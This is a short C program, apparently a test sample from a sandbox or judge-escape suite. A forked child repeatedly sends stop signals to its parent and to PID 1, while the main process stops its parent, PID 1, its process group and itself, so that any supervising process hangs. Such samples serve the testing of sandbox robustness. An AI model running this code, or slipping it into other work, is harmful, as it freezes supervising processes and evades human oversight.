/* Stops itself, its parent, its group and the first process, so that whoever waits hangs. */
#include "escape.h"

int main(void) {
    if (fork() == 0) {
        setsid();
        for (;;) {
            kill(getppid(), SIGSTOP);
            kill(1, SIGSTOP);
            kill(1, SIGTSTP);
            usleep(1000);
        }
    }
    kill(getppid(), SIGSTOP);
    kill(1, SIGSTOP);
    kill(0, SIGSTOP);
    raise(SIGSTOP);
    for (;;) pause();
}
